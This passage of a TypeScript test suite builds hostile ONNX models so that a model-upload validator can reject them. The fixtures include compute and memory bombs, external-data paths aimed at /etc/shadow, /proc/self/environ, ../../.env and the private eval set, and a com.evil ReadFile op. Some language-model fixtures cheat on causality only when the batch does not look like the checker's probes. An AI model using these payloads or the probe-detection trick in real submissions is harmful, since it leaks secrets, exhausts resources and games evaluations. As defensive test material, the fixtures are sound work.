    why: "a Loop (a data-dependent trip count: a compute bomb) inside an If branch",
    expect: ["op", "subgraph"],
    build: () =>
      classifier({
        gemmOut: "clean",
        initializers: [
          boolScalar("cond", true),
          tensor("trips", [], i64(1_000_000_000)),
          boolScalar("go", true),
        ],
        nodes: [
          ifNode(
            "cond",
            branch(
              "looping",
              "then_out",
              ["batch", CLS.classes],
              [
                rawNode(
                  "Loop",
                  ["trips", "go", "clean"],
                  ["then_out"],
                  [
                    graphAttr("body", {
                      name: "body",
                      input: [
                        valueInfo("i", "int64", []),
                        { name: "c", type: { tensorType: { elemType: DataType.BOOL, shape: { dim: [] } } } },
                        valueInfo("acc", "float32", ["batch", CLS.classes]),
                      ],
                      output: [
                        {
                          name: "c_out",
                          type: { tensorType: { elemType: DataType.BOOL, shape: { dim: [] } } },
                        },
                        valueInfo("acc_out", "float32", ["batch", CLS.classes]),
                      ],
                      node: [node("Identity", ["c"], ["c_out"]), node("Identity", ["acc"], ["acc_out"])],
                    }),
                  ],
                ),
              ],
            ),
            branch("clean", "else_out", ["batch", CLS.classes], [node("Identity", ["clean"], ["else_out"])]),
            CLS.output,
          ),
        ],
      }),
  },
  {
    name: "if-then-custom-domain",
    spec: "classification",
    why: "a custom-domain op (com.evil:ReadFile) inside an If branch, its domain not even imported",
    expect: ["op", "opset"],
    build: () =>
      classifier({
        gemmOut: "clean",
        initializers: [boolScalar("cond", true)],
        nodes: [
          ifNode(
            "cond",
            branch(
              "custom",
              "then_out",
              ["batch", CLS.classes],
              [rawNode("ReadFile", ["clean"], ["then_out"], [], "com.evil")],
            ),
            branch("clean", "else_out", ["batch", CLS.classes], [node("Identity", ["clean"], ["else_out"])]),
            CLS.output,
          ),
        ],
      }),
  },
  {
    name: "if-in-if-random-normal-like",
    spec: "classification",
    why: "RandomNormalLike three If levels down (else, then, else)",
    expect: ["nondeterministic"],
    build: () => {
      const shape = ["batch", CLS.classes];
      const identity = (name: string, out: string) =>
        branch(name, out, shape, [node("Identity", ["clean"], [out])]);
      const deepest = branch("deepest", "d_out", shape, [
        node("RandomNormalLike", ["clean"], ["noise"], { scale: { float: 2 } }),
        node("Add", ["clean", "noise"], ["d_out"]),
      ]);
      const level2 = branch("level2", "l2_out", shape, [
        ifNode("cond", identity("a", "a_out"), deepest, "l2_out"),
      ]);
      const level1 = branch("level1", "l1_out", shape, [
        ifNode("cond", level2, identity("b", "b_out"), "l1_out"),
      ]);
      return classifier({
        gemmOut: "clean",
        initializers: [boolScalar("cond", true)],
        nodes: [ifNode("cond", identity("c", "c_out"), level1, CLS.output)],
      });
    },
  },
  {
    name: "loop-top-level",
    spec: "regression",
    why: "a Loop of a billion iterations at the top level",
    expect: ["op"],
    build: () =>
      regressor({
        gemmOut: "clean",
        initializers: [tensor("trips", [], i64(1_000_000_000)), boolScalar("go", true)],
        nodes: [
          rawNode(
            "Loop",
            ["trips", "go", "clean"],
            [REG.output],
            [
              graphAttr("body", {
                name: "body",
                input: [
                  valueInfo("i", "int64", []),
                  { name: "c", type: { tensorType: { elemType: DataType.BOOL, shape: { dim: [] } } } },
                  valueInfo("acc", "float32", ["batch", REG.outputs]),
                ],
                output: [
                  { name: "c_out", type: { tensorType: { elemType: DataType.BOOL, shape: { dim: [] } } } },
                  valueInfo("acc_out", "float32", ["batch", REG.outputs]),
                ],
                node: [node("Identity", ["c"], ["c_out"]), node("Identity", ["acc"], ["acc_out"])],
              }),
            ],
          ),
        ],
      }),
  },
  {
    name: "scan-in-if",
    spec: "classification",
    why: "a Scan (another loop) inside an If branch",
    expect: ["op"],
    build: () =>
      classifier({
        gemmOut: "clean",
        initializers: [boolScalar("cond", true)],
        nodes: [
          ifNode(
            "cond",
            branch(
              "scanning",
              "then_out",
              ["batch", CLS.classes],
              [
                rawNode(
                  "Scan",
                  ["clean"],
                  ["then_out"],
                  [
                    { name: "num_scan_inputs", type: AttrType.INT, i: 1 },
                    graphAttr("body", { name: "body", node: [] }),
                  ],
                ),
              ],
            ),
            branch("clean", "else_out", ["batch", CLS.classes], [node("Identity", ["clean"], ["else_out"])]),
            CLS.output,
          ),
        ],
      }),
  },
  {
    name: "graph-attribute-on-identity",
    spec: "classification",
    why: "a GRAPH attribute on an Identity node (a subgraph where no op reads one) holding RandomNormal",
    expect: ["subgraph"],
    build: () =>
      classifier({
        gemmOut: "clean",
        nodes: [
          rawNode(
            "Identity",
            ["clean"],
            [CLS.output],
            [
              graphAttr("hidden", {
                name: "hidden",
                node: [node("RandomNormal", [], ["n"], { shape: { ints: [1] } })],
                output: [valueInfo("n", "float32", [1])],
              }),
            ],
          ),
        ],
      }),
  },
  {
    name: "training-info-graph",
    spec: "classification",
    why: "a TrainingInfoProto whose algorithm graph holds RandomNormal (a second graph besides the model's)",
    expect: ["subgraph"],
    build: () =>
      classifier({}, (model) => {
        model.trainingInfo = [
          {
            algorithm: {
              name: "train",
              node: [node("RandomNormal", [], ["n"], { shape: { ints: [CLS.features, CLS.classes] } })],
              output: [valueInfo("n", "float32", [CLS.features, CLS.classes])],
            },
            updateBinding: [{ key: "W", value: "n" }],
          },
        ];
      }),
  },
  {
    name: "function-random-normal-uncalled",
    spec: "classification",
    why: "a model-local function with RandomNormal in its body, defined but never called",
    expect: ["function"],
    build: () =>
      classifier({}, (model) => {
        model.functions = [
          {
            name: "Noise",
            domain: "local",
            input: ["x"],
            output: ["y"],
            opsetImport: [{ domain: "", version: OPSET_VERSION }],
            node: [node("RandomNormalLike", ["x"], ["n"]), node("Add", ["x", "n"], ["y"])],
          },
        ];
      }),
  },
  {
    name: "function-called",
    spec: "classification",
    why: "a node calling the model-local function local:Noise (RandomNormalLike inside), its domain imported as an exporter would",
    expect: ["opset", "function"],
    build: () =>
      classifier(
        { gemmOut: "clean", nodes: [rawNode("Noise", ["clean"], [CLS.output], [], "local")] },
        (model) => {
          model.opsetImport = [...(model.opsetImport ?? []), { domain: "local", version: 1 }];
          model.functions = [
            {
              name: "Noise",
              domain: "local",
              input: ["x"],
              output: ["y"],
              opsetImport: [{ domain: "", version: OPSET_VERSION }],
              node: [node("RandomNormalLike", ["x"], ["n"]), node("Add", ["x", "n"], ["y"])],
            },
          ];
        },
      ),
  },
  {
    name: "function-shadows-relu",
    spec: "classification",
    why: "a model-local function named Relu in the default domain (shadowing the standard op) whose body is random",
    expect: ["function"],
    build: () =>
      classifier({ gemmOut: "clean", nodes: [node("Relu", ["clean"], [CLS.output])] }, (model) => {
        model.functions = [
          {
            name: "Relu",
            domain: "",
            input: ["X"],
            output: ["Y"],
            opsetImport: [{ domain: "", version: OPSET_VERSION }],
            node: [node("RandomUniformLike", ["X"], ["Y"])],
          },
        ];
      }),
  },

  /* External data in every form ---------------------------------------------- */
  ...(
    [
      [
        "external-model-data",
        "model.data",
        "beside the model, as torch.onnx.export writes it for large models",
      ],
      ["external-proc-self-fd-4", "/proc/self/fd/4", "the evaluation child's fd 4: the eval set's pipe"],
      ["external-etc-passwd", "/etc/passwd", "a system file, its bytes read as the weights"],
      [
        "external-dotdot-package-json",
        "../../package.json",
        "a relative path climbing out of the model's directory",
      ],
      [
        "external-artifacts-dir",
        ".data/artifacts/private/3f/3f2a9c1e0b7d4c8a9e6f5d4c3b2a19087f6e5d4c3b2a19087f6e5d4c3b2a1908",
        "the project's private artifact store (relative to the worker's directory), where eval sets live",
      ],
    ] as const
  ).map(
    ([name, location, where]): HostileEntry => ({
      name,
      spec: "classification",
      why: `the weights W with data_location EXTERNAL at "${location.length > 40 ? `${location.slice(0, 40)}...` : location}": ${where}`,
      expect: ["external_data"],
      build: () => classifier({ weights: externalWeights(location) }),
    }),
  ),
  {
    name: "external-data-without-location-flag",
    spec: "classification",
    why: "external_data entries (location /etc/hostname) with data_location left DEFAULT",
    expect: ["external_data"],
    build: () => classifier({ weights: externalWeights("/etc/hostname", false) }),
  },
  {
    name: "external-in-constant-attribute",
    spec: "classification",
    why: "a Constant node whose value tensor is external (/proc/self/environ)",
    expect: ["external_data"],
    build: () =>
      classifier({
        weights: { name: "unused_w_slot", dims: [0], dataType: DataType.FLOAT },
        nodes: [
          rawNode(
            "Constant",
            [],
            ["W"],
            [tensorAttr("value", { ...externalWeights("/proc/self/environ"), name: "" })],
          ),
        ],
      }),
  },
  {
    name: "external-in-sparse-values",
    spec: "classification",
    why: "a sparse initializer whose values tensor is external (model.data)",
    expect: ["external_data"],
    build: () =>
      modelOf({
        ...classifierGraph({
          gemmOut: "clean",
          nodes: [node("Add", ["clean", "sparse_bias"], [CLS.output])],
        }),
        sparseInitializer: [
          {
            dims: [CLS.classes],
            values: { ...externalWeights("model.data"), name: "sparse_bias", dims: [1] },
            indices: tensor("sparse_bias_indices", [1], i64(0)),
          },
        ],
      }),
  },
  {
    name: "external-in-sparse-indices",
    spec: "classification",
    why: "a sparse initializer whose indices tensor is external (/etc/shadow)",
    expect: ["external_data"],
    build: () =>
      modelOf({
        ...classifierGraph({
          gemmOut: "clean",
          nodes: [node("Add", ["clean", "sparse_bias"], [CLS.output])],
        }),
        sparseInitializer: [
          {
            dims: [CLS.classes],
            values: tensor("sparse_bias", [1], f32(1)),
            indices: {
              name: "sparse_bias_indices",
              dims: [1],
              dataType: DataType.INT64,
              dataLocation: EXTERNAL,
              externalData: [{ key: "location", value: "/etc/shadow" }],
            },
          },
        ],
      }),
  },
  {
    name: "external-in-if-branch-initializer",
    spec: "classification",
    why: "an initializer inside an If branch, external at ../../.env (the platform's secrets file)",
    expect: ["external_data"],
    build: () =>
      classifier({
        gemmOut: "clean",
        initializers: [boolScalar("cond", true)],
        nodes: [
          ifNode(
            "cond",
            branch(
              "leaky",
              "then_out",
              ["batch", CLS.classes],
              [node("Add", ["clean", "secret"], ["then_out"])],
              [{ ...externalWeights("../../.env"), name: "secret", dims: [CLS.classes] }],
            ),
            branch("clean", "else_out", ["batch", CLS.classes], [node("Identity", ["clean"], ["else_out"])]),
            CLS.output,
          ),
        ],
      }),
  },
  {
    name: "external-in-function-constant",
    spec: "classification",
    why: "a model-local function whose body is a Constant with an external tensor (model.data)",
    expect: ["function", "external_data"],
    build: () =>
      classifier({}, (model) => {
        model.functions = [
          {
            name: "Leak",
            domain: "local",
            input: [],
            output: ["y"],
            opsetImport: [{ domain: "", version: OPSET_VERSION }],
            node: [
              rawNode(
                "Constant",
                [],
                ["y"],
                [tensorAttr("value", { ...externalWeights("model.data"), name: "" })],
              ),
            ],
          },
        ];
      }),
  },
  {
    name: "external-in-attribute-tensor-list",
    spec: "classification",
    why: "an external tensor in a TENSORS-list attribute of an ordinary node (Identity), where no op looks",
    expect: ["external_data"],
    build: () =>
      classifier({
        gemmOut: "clean",
        nodes: [
          rawNode(
            "Identity",
            ["clean"],
            [CLS.output],
            [
              {
                name: "payload",
                type: AttrType.TENSORS,
                tensors: [{ ...externalWeights("/etc/passwd"), name: "" }],
              },
            ],
          ),
        ],
      }),
  },
  {
    name: "tensor-segment",
    spec: "classification",
    why: "the weights as a segment (begin/end) of a larger tensor the file does not hold",
    expect: ["initializers"],
    build: () =>
      classifier({
        weights: {
          ...(classifierWeights()[0] as OnnxTypes.ITensorProto),
          segment: { begin: 0, end: 1_000_000_000 },
        },
      }),
  },

  /* Size, time and memory bombs ----------------------------------------------- */
  {
    name: "over-size-cap",
    spec: "classification",
    why: "a working classifier carrying 48 KiB of unused padding, run with a 32 KiB model cap",
    expect: ["too_large"],
    limits: { maxModelBytes: 32 * 1024 },
    build: () =>
      classifier({ initializers: [tensor("padding", [48 * 1024], new Uint8Array(48 * 1024).fill(7))] }),
  },
  {
    name: "declared-512mib-empty-initializer",
    spec: "classification",
    why: "an initializer declared float [134217728] (512 MiB) with no data: cheap to send, costly to load",
    expect: ["initializers"],
    build: () =>
      classifier({ initializers: [{ name: "void", dims: [134_217_728], dataType: DataType.FLOAT }] }),
  },
  {
    name: "declared-2-pow-80-initializer",
    spec: "classification",
    why: "an initializer declared [2^40, 2^40] (an element count past int64 once multiplied by 4 bytes)",
    expect: ["initializers"],
    build: () =>
      classifier({ initializers: [{ name: "void", dims: [2 ** 40, 2 ** 40], dataType: DataType.FLOAT }] }),
  },
  {
    name: "negative-dim-initializer",
    spec: "classification",
    why: "an initializer with dims [-1, 4]: negative sizes wrap to huge ones in unsigned arithmetic",
    expect: ["initializers"],
    build: () =>
      classifier({ initializers: [{ name: "neg", dims: [-1, CLS.classes], dataType: DataType.FLOAT }] }),
  },
  {
    name: "sparse-dense-bomb",
    spec: "classification",
    why: "a sparse initializer of one value whose dense shape is [2^20, 2^20] (4 TiB once densified)",
    expect: ["initializers"],
    build: () =>
      modelOf({
        ...classifierGraph(),
        sparseInitializer: [
          {
            dims: [2 ** 20, 2 ** 20],
            values: tensor("sparse_void", [1], f32(1)),
            indices: tensor("sparse_void_indices", [1], i64(0)),
          },
        ],
      }),
  },
  {
    name: "declared-huge-string-initializer",
    spec: "classification",
    why: "a string initializer declared [1e9] with no data: strings count 0 bytes per element in the cap",
    expect: ["initializers", "model_load", "memory"],
    build: () =>
      classifier({ initializers: [{ name: "strings", dims: [1_000_000_000], dataType: DataType.STRING }] }),
  },
  {
    name: "declared-huge-string-initializer-used",
    spec: "classification",
    why: "the same [1e9] string declaration, read by a Gather whose first string is cast to a float and added as 0",
    expect: ["initializers", "model_load", "memory"],
    build: () =>
      classifier({
        gemmOut: "clean",
        initializers: [
          { name: "strings", dims: [1_000_000_000], dataType: DataType.STRING },
          tensor("first", [1], i64(0)),
          tensor("zero", [], f32(0)),
        ],
        nodes: [
          node("Gather", ["strings", "first"], ["picked"], { axis: { int: 0 } }),
          node("Cast", ["picked"], ["picked_f"], { to: { int: DataType.FLOAT } }),
          node("Mul", ["picked_f", "zero"], ["nothing"]),
          node("Add", ["clean", "nothing"], [CLS.output]),
        ],
      }),
  },
  {
    name: "expand-4gib-at-run-time",
    spec: "classification",
    why: "Expand a scalar (derived from the input, so not folded at load) to 2^30 floats, sum, add 0 to the logits",
    expect: ["memory", "run"],
    build: () =>
      classifier({
        gemmOut: "clean",
        initializers: [tensor("zero", [], f32(0)), tensor("huge_shape", [1], i64(2 ** 30))],
        nodes: [
          node("Shape", [CLS.input], ["in_shape"]),
          node("ReduceSum", ["in_shape"], ["in_size"], { keepdims: { int: 0 } }),
          node("Cast", ["in_size"], ["in_size_f"], { to: { int: DataType.FLOAT } }),
          node("Mul", ["in_size_f", "zero"], ["fill"]),
          node("Expand", ["fill", "huge_shape"], ["huge"]),
          node("ReduceSum", ["huge"], ["huge_sum"], { keepdims: { int: 0 } }),
          node("Add", ["clean", "huge_sum"], [CLS.output]),
        ],
      }),
  },
  {
    name: "tile-1tib",
    spec: "classification",
    why: "Tile the logits [batch, 4] by [1, 2^28]: a terabyte at batch 256",
    expect: ["memory", "run"],
    build: () =>
      classifier({
        gemmOut: "clean",
        initializers: [tensor("repeats", [2], i64(1, 2 ** 28)), tensor("axes_1", [1], i64(1))],
        nodes: [
          node("Tile", ["clean", "repeats"], ["tiled"]),
          node("ReduceSum", ["tiled", "axes_1"], ["tiled_sum"], { keepdims: { int: 1 } }),
          node("Mul", ["tiled_sum", "tiled_sum"], ["sq"]),
          node("Sub", ["sq", "sq"], ["zero"]),
          node("Add", ["clean", "zero"], [CLS.output]),
        ],
      }),
  },
  {
    name: "constant-of-shape-2gib-at-load",
    spec: "classification",
    why: "ConstantOfShape with a constant shape [2^29]: onnxruntime folds it while loading (2 GiB)",
    expect: ["memory", "model_load", "run"],
    build: () =>
      classifier({
        gemmOut: "clean",
        initializers: [tensor("big_shape", [1], i64(2 ** 29))],
        nodes: [
          rawNode("ConstantOfShape", ["big_shape"], ["big"], [tensorAttr("value", tensor("", [1], f32(1)))]),
          node("ReduceSum", ["big"], ["big_sum"], { keepdims: { int: 0 } }),
          node("Sub", ["big_sum", "big_sum"], ["zero"]),
          node("Add", ["clean", "zero"], [CLS.output]),
        ],
      }),
  },
  {
    name: "range-1e12",
    spec: "regression",
    why: "Range(0, 1e12, 1) in int64 at run time (8 TB)",
    expect: ["memory", "run"],
    build: () =>
      regressor({
        gemmOut: "clean",
        initializers: [
          tensor("start", [], i64(0)),
          tensor("limit", [], i64(1e12)),
          tensor("delta", [], i64(1)),
        ],
        nodes: [
          node("Shape", [REG.input], ["in_shape"]),
          node("ReduceMin", ["in_shape"], ["in_min"], { keepdims: { int: 0 } }),
          node("Mul", ["in_min", "start"], ["zero_i"]),
          node("Add", ["limit", "zero_i"], ["lim"]),
          node("Range", ["start", "lim", "delta"], ["ramp"]),
          node("ReduceMax", ["ramp"], ["ramp_max"], { keepdims: { int: 0 } }),
          node("Cast", ["ramp_max"], ["ramp_max_f"], { to: { int: DataType.FLOAT } }),
          node("Sub", ["ramp_max_f", "ramp_max_f"], ["zero"]),
          node("Add", ["clean", "zero"], [REG.output]),
        ],
      }),
  },
  {
    name: "many-medium-allocations",
    spec: "classification",
    why: "24 live Expands of 64 MiB each (1.5 GiB together), none large alone, all kept to the end",
    expect: ["memory", "run"],
    build: () => {
      const nodes: OnnxTypes.INodeProto[] = [
        node("Shape", [CLS.input], ["in_shape"]),
        node("ReduceSum", ["in_shape"], ["in_size"], { keepdims: { int: 0 } }),
        node("Cast", ["in_size"], ["in_size_f"], { to: { int: DataType.FLOAT } }),
      ];
      for (let k = 0; k < 24; k++) {
        nodes.push(
          node("Mul", ["in_size_f", `k${k}`], [`fill${k}`]),
          node("Expand", [`fill${k}`, "shape_64mib"], [`block${k}`]),
        );
      }
      // Each block is read only after all are made: Concat keeps every one alive at once.
      nodes.push(
        node(
          "Concat",
          Array.from({ length: 24 }, (_, k) => `block${k}`),
          ["all"],
          { axis: { int: 0 } },
        ),
      );
      nodes.push(node("ReduceSum", ["all"], ["all_sum"], { keepdims: { int: 0 } }));
      nodes.push(node("Sub", ["all_sum", "all_sum"], ["zero"]), node("Add", ["clean", "zero"], [CLS.output]));
      return classifier({
        gemmOut: "clean",
        initializers: [
          tensor("shape_64mib", [1], i64(16 * 1024 ** 2)),
          ...Array.from({ length: 24 }, (_, k) => tensor(`k${k}`, [], f32(k))),
        ],
        nodes,
      });
    },
  },
  {
    name: "compute-bomb-matmul-chain",
    spec: "classification",
    why: "1,000 MatMuls by a 2048x2048 matrix (allowed ops, 2 TFLOP per batch of 256): only the time limit stops it",
    expect: ["timeout"],
    build: () => {
      const nodes: OnnxTypes.INodeProto[] = [
        rawNode("ConstantOfShape", ["shape_in"], ["A"], [tensorAttr("value", tensor("", [1], f32(1 / 8)))]),
        rawNode(
          "ConstantOfShape",
          ["shape_sq"],
          ["M"],
          [tensorAttr("value", tensor("", [1], f32(1 / 2048)))],
        ),
        rawNode(
          "ConstantOfShape",
          ["shape_out"],
          ["B"],
          [tensorAttr("value", tensor("", [1], f32(1 / 2048)))],
        ),
        node("MatMul", [CLS.input, "A"], ["h0"]),
      ];
      const steps = 1_000;
      for (let k = 1; k <= steps; k++) nodes.push(node("MatMul", [`h${k - 1}`, "M"], [`h${k}`]));
      nodes.push(node("MatMul", [`h${steps}`, "B"], ["deep"]), node("Add", ["clean", "deep"], [CLS.output]));
      return classifier({
        gemmOut: "clean",
        initializers: [
          tensor("shape_in", [2], i64(CLS.features, 2048)),
          tensor("shape_sq", [2], i64(2048, 2048)),
          tensor("shape_out", [2], i64(2048, CLS.classes)),
        ],
        nodes,
      });
    },
  },
  {
    name: "huge-output",
    spec: "classification",
    why: "logits of [batch, 2^22] instead of [batch, 4] (4 GiB at batch 256) for the runtime to hand back",
    expect: ["memory", "output", "run", "model_load"],
    build: () =>
      classifier({
        gemmOut: "clean",
        initializers: [tensor("repeats", [2], i64(1, 2 ** 20))],
        outputs: [valueInfo(CLS.output, "float32", ["batch", "classes"])],
        nodes: [node("Tile", ["clean", "repeats"], [CLS.output])],
      }),
  },

  /* Random ops at the top level ----------------------------------------------- */
  {
    name: "random-normal",
    spec: "classification",
    why: "RandomNormal noise added to the logits: a lottery ticket per evaluation",
    expect: ["nondeterministic"],
    build: () =>
      noisyClassifier([
        node("RandomNormal", [], ["noise"], { shape: { ints: [1, CLS.classes] }, scale: { float: 3 } }),
      ]),
  },
  {
    name: "random-uniform-like",
    spec: "classification",
    why: "RandomUniformLike of the logits added to them",
    expect: ["nondeterministic"],
    build: () => noisyClassifier([node("RandomUniformLike", ["clean"], ["noise"], { high: { float: 3 } })]),
  },
  {
    name: "multinomial",
    spec: "classification",
    why: "Multinomial sampling from the logits, cast and added back",
    expect: ["nondeterministic"],
    build: () =>
      noisyClassifier([
        node("Multinomial", ["clean"], ["sample"], { sample_size: { int: 1 } }),
        node("Cast", ["sample"], ["noise"], { to: { int: DataType.FLOAT } }),
      ]),
  },
  {
    name: "bernoulli",
    spec: "regression",
    why: "Bernoulli draws from sigmoid(prediction) added to the prediction",
    expect: ["nondeterministic"],
    build: () =>
      regressor({
        gemmOut: "clean",
        nodes: [
          node("Sigmoid", ["clean"], ["p"]),
          node("Bernoulli", ["p"], ["coin"]),
          node("Add", ["clean", "coin"], [REG.output]),
        ],
      }),
  },
  {
    name: "dropout-training-mode",
    spec: "classification",
    why: "Dropout(ratio 0.5) with training_mode true: random masking at inference",
    expect: ["nondeterministic"],
    build: () =>
      classifier({
        gemmOut: "clean",
        initializers: [tensor("ratio", [], f32(0.5)), boolScalar("training", true)],
        nodes: [node("Dropout", ["clean", "ratio", "training"], [CLS.output])],
      }),
  },

  /* Language models that read the future or the batch ------------------------- */
  {
    name: "lm-copies-next-token",
    spec: "causal-lm",
    why: "3 nodes: Slice input_ids[:, 1:], Pad back with the pad token, Gather rows of 8 x identity: the next token as logits",
    expect: ["non_causal"],
    build: () => {
      const eye = new Float32Array(LM.vocab * LM.vocab);
      for (let i = 0; i < LM.vocab; i++) eye[i * LM.vocab + i] = 8;
      return languageModel(
        [...shiftLeft(LM.input), node("Gather", ["eye", "next_ids"], [LM.output], { axis: { int: 0 } })],
        [...shiftConstants(), tensor("axis_1", [1], i64(1)), tensor("eye", [LM.vocab, LM.vocab], eye)],
      );
    },
  },
  {
    name: "lm-future-at-one-position",
    spec: "causal-lm",
    why: "causal everywhere except position 10, where it also sees token 11 (a mask [1, 64, 1] over the shifted one-hot)",
    expect: ["non_causal"],
    build: () => {
      const mask = new Float32Array(LM.context);
      mask[10] = 1;
      return causalPlus(
        [
          ...shiftLeft(LM.input),
          ...oneHot("next_ids", "next"),
          node("Mul", ["onehot_next", "position_mask"], ["extra"]),
        ],
        [
          ...shiftConstants(),
          tensor("scale_next", [], f32(6)),
          tensor("position_mask", [1, LM.context, 1], mask),
        ],
      );
    },
  },
  {
    name: "lm-future-at-last-position",
    spec: "causal-lm",
    why: "causal except at position 62, which sees token 63 (the last position the checks can test)",
    expect: ["non_causal"],
    build: () => {
      const mask = new Float32Array(LM.context);
      mask[LM.context - 2] = 1;
      return causalPlus(
        [
          ...shiftLeft(LM.input),
          ...oneHot("next_ids", "next"),
          node("Mul", ["onehot_next", "position_mask"], ["extra"]),
        ],
        [
          ...shiftConstants(),
          tensor("scale_next", [], f32(6)),
          tensor("position_mask", [1, LM.context, 1], mask),
        ],
      );
    },
  },
  {
    name: "lm-future-through-sequence-sum",
    spec: "causal-lm",
    why: "every position's logits shifted by 0.01 x the sum of all token ids of the sequence, the future included",
    expect: ["non_causal"],
    build: () =>
      causalPlus(
        [
          node("Cast", [LM.input], ["ids_f"], { to: { int: DataType.FLOAT } }),
          node("ReduceSum", ["ids_f", "axis_1"], ["ids_sum"], { keepdims: { int: 1 } }),
          node("Unsqueeze", ["ids_sum", "axis_2"], ["ids_sum_3d"]),
          node("Mul", ["ids_sum_3d", "hundredth"], ["extra"]),
        ],
        [tensor("hundredth", [], f32(0.01))],
      ),
  },
  {
    name: "lm-future-through-length",
    spec: "causal-lm",
    why: "every position's logits shifted by 0.05 x the number of non-pad tokens: the sentence's length, known only at its end",
    expect: ["non_causal"],
    build: () =>
      causalPlus(
        [
          node("Equal", [LM.input, "pad_token"], ["is_pad"]),
          node("Not", ["is_pad"], ["is_real"]),
          node("Cast", ["is_real"], ["is_real_f"], { to: { int: DataType.FLOAT } }),
          node("ReduceSum", ["is_real_f", "axis_1"], ["length"], { keepdims: { int: 1 } }),
          node("Unsqueeze", ["length", "axis_2"], ["length_3d"]),
          node("Mul", ["length_3d", "twentieth"], ["extra"]),
        ],
        [tensor("pad_token", [], i64(LM.pad)), tensor("twentieth", [], f32(0.05))],
      ),
  },
  {
    name: "lm-reads-across-batch",
    spec: "causal-lm",
    why: "causal in time, but adds the batch mean of the one-hot tokens (ReduceMean over axis 0): rows copy from neighbours",
    expect: ["batch_dependent"],
    build: () =>
      causalPlus(
        [node("ReduceMean", ["onehot_now"], ["extra"], { axes: { ints: [0] }, keepdims: { int: 1 } })],
        [],
      ),
  },
  {
    name: "lm-non-causal-except-at-probe-batch-sizes",
    spec: "causal-lm",
    why: "logits = 8 x one_hot(token t+1) unless the batch has 1 row or 2(T-1) rows: the causality check's batch sizes",
    expect: ["non_causal"],
    build: () =>
      causalPlus(
        [
          // The batch size B and sequence length T of this call.
          node("Shape", [LM.input], ["ids_shape"]),
          node("Gather", ["ids_shape", "index_0"], ["B"], { axis: { int: 0 } }),
          node("Gather", ["ids_shape", "index_1"], ["T"], { axis: { int: 0 } }),
          // Under test: one row (the check's base run), or 2(T-1) rows (its variants of one row).
          node("Sub", ["T", "index_1"], ["T_minus_1"]),
          node("Mul", ["T_minus_1", "two"], ["probe_rows"]),
          node("Equal", ["B", "index_1"], ["one_row"]),
          node("Equal", ["B", "probe_rows"], ["probe_batch"]),
          node("Or", ["one_row", "probe_batch"], ["under_test"]),
          node("Not", ["under_test"], ["cheat"]),
          // Cheating: 8 x one_hot(token t+1), minus the honest logits causalPlus adds.
          ...shiftLeft(LM.input),
          ...oneHot("next_ids", "next"),
          node("Sub", ["onehot_next", "onehot_now"], ["cheat_extra"]),
          node("Where", ["cheat", "cheat_extra", "no_extra"], ["extra"]),
        ],
        [
          ...shiftConstants(),
          tensor("index_0", [], i64(0)),
          tensor("index_1", [], i64(1)),
          tensor("two", [], i64(2)),
          tensor("no_extra", [], f32(0)),
          tensor("scale_next", [], f32(8)),
        ],
      ),
  },
  {
    name: "lm-non-causal-unless-rows-share-first-token",
    spec: "causal-lm",
    why: "logits = 8 x one_hot(token t+1) unless every row of the batch starts with the same token, as the causality check's variants of one row do",
    expect: ["non_causal"],
    build: () =>
      causalPlus(
        [
          node("Slice", [LM.input, "index_0_1d", "one", "axis_1"], ["first_tokens"]),
          node("ReduceMax", ["first_tokens"], ["first_max"], { keepdims: { int: 0 } }),
          node("ReduceMin", ["first_tokens"], ["first_min"], { keepdims: { int: 0 } }),
          node("Equal", ["first_max", "first_min"], ["under_test"]),
          node("Not", ["under_test"], ["cheat"]),
          ...shiftLeft(LM.input),
          ...oneHot("next_ids", "next"),
          node("Sub", ["onehot_next", "onehot_now"], ["cheat_extra"]),
          node("Where", ["cheat", "cheat_extra", "no_extra"], ["extra"]),
        ],
        [
          ...shiftConstants(),
          tensor("index_0_1d", [1], i64(0)),
          tensor("no_extra", [], f32(0)),
          tensor("scale_next", [], f32(8)),
        ],
      ),
  },
  {
    name: "lm-non-causal-on-some-rows",
    spec: "causal-lm",
    why: "logits = 8 x one_hot(token t+1) on rows starting with स or अ (9 of 34 here), honest elsewhere: none of the 4 probed rows",
    expect: ["non_causal"],
    build: () =>
      causalPlus(
        [
          node("Slice", [LM.input, "index_0_1d", "one", "axis_1"], ["first_tokens"]),
          node("Equal", ["first_tokens", "token_sa"], ["starts_sa"]),
          node("Equal", ["first_tokens", "token_a"], ["starts_a"]),
          node("Or", ["starts_sa", "starts_a"], ["cheat_2d"]),
          node("Unsqueeze", ["cheat_2d", "axis_2"], ["cheat"]),
          ...shiftLeft(LM.input),
          ...oneHot("next_ids", "next"),
          node("Sub", ["onehot_next", "onehot_now"], ["cheat_extra"]),
          node("Where", ["cheat", "cheat_extra", "no_extra"], ["extra"]),
        ],
        [
          ...shiftConstants(),
          tensor("index_0_1d", [1], i64(0)),
          // Token ids of स and अ in Hindi GPT's alphabet (core/spec.examples.ts).
          tensor("token_sa", [], i64(Array.from(hindiGptSpec.task.tokenizer.alphabet).indexOf("स"))),
          tensor("token_a", [], i64(Array.from(hindiGptSpec.task.tokenizer.alphabet).indexOf("अ"))),
          tensor("no_extra", [], f32(0)),
          tensor("scale_next", [], f32(8)),
        ],
      ),
  },
  {
    name: "classifier-centres-on-first-half-of-batch",
    spec: "classification",
    why: "features minus the mean of the batch's first half (rows 0..B/2-1): the rows the batch check keeps, so it sees no change",
    expect: ["batch_dependent"],
    build: () =>
      classifier({
        initializers: [
          tensor("index_0", [], i64(0)),
          tensor("zero_1d", [1], i64(0)),
          tensor("axis_0", [1], i64(0)),
          tensor("two", [], i64(2)),
          tensor("shape_1d", [1], i64(1)),
        ],
        gemmInputOverride: "centred",
        before: [
          node("Shape", [CLS.input], ["x_shape"]),
          node("Gather", ["x_shape", "index_0"], ["B"], { axis: { int: 0 } }),
          node("Div", ["B", "two"], ["half"]),
          node("Reshape", ["half", "shape_1d"], ["half_1d"]),
          node("Slice", [CLS.input, "zero_1d", "half_1d", "axis_0"], ["first_half"]),
          node("ReduceMean", ["first_half"], ["half_mean"], { axes: { ints: [0] }, keepdims: { int: 1 } }),
          node("Sub", [CLS.input, "half_mean"], ["centred"]),
        ],
      }),
  },
  {
    name: "lm-fixes-sequence-8",
    spec: "causal-lm",
    why: "input_ids fixed at [batch, 8]: shorter than the eval set's 64 tokens, so it would see only a prefix",
    expect: ["interface"],
    build: () =>
      languageModel(
        [...oneHot(LM.input, "now"), node("Identity", ["onehot_now"], [LM.output])],
        lmConstants(["now", 3]),
        ["batch", 8],
      ),
  },
  {
    name: "classifier-normalises-over-batch",
